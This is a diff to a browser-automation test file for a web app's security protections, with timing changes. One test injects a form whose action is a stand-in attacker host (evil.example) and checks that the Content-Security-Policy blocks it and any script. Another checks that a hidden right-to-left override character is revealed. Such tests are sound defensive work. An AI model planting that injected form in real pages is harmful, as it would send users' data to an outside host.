@@ -117,12 +117,14 @@ def test_markup_that_got_in_would_still_not_run(site: Entrance, enter: Enter) ->
         "(main) => { main.innerHTML += '<form id=out action=https://evil.example><button>'; }"
     )
     page.locator("#out button").evaluate("(button) => button.click()")
-    said = page.evaluate("window.hacked")
-    assert "alert" not in said
-    assert any(one.startswith("script-src") for one in said)
-    assert any(one.startswith("form-action https://evil.example") for one in said)
-    assert {one.failure for one in watch.requests if not one.url.startswith(person.url)} == {"csp"}
+    for refused in ("script-src", "form-action https://evil.example"):
+        person.until(lambda start=refused: any(one.startswith(start) for one in page.evaluate("window.hacked")))
+    assert "alert" not in page.evaluate("window.hacked")
+    asked = [one for one in watch.requests if not one.url.startswith(person.url)]
+    person.until(lambda: all(one.failure for one in asked))
+    assert {one.failure for one in asked} == {"csp"}
     assert page.url.startswith(person.url)
+    page.close()  # its console has nothing more to say
     assert not [line for line in person.said if line.startswith("dialog")]
     person.said.clear()
 
@@ -238,7 +240,7 @@ def test_what_is_huge_is_approved_only_when_opened(site: Entrance, enter: Enter,
         fold.locator("summary").click()
     else:
         page.click("#to-open a >> nth=0")
-    expect(fold.locator(".unseen")).to_contain_text("U+202E", timeout=30_000)
+    expect(fold.locator(".unseen")).to_contain_text("U+202E")
     end = fold.locator(".whole").evaluate("(one) => one.textContent.slice(-100)")
     assert end.endswith(plain(END))
     expect(fold.locator(".whole mark")).to_have_text("\\u202e")
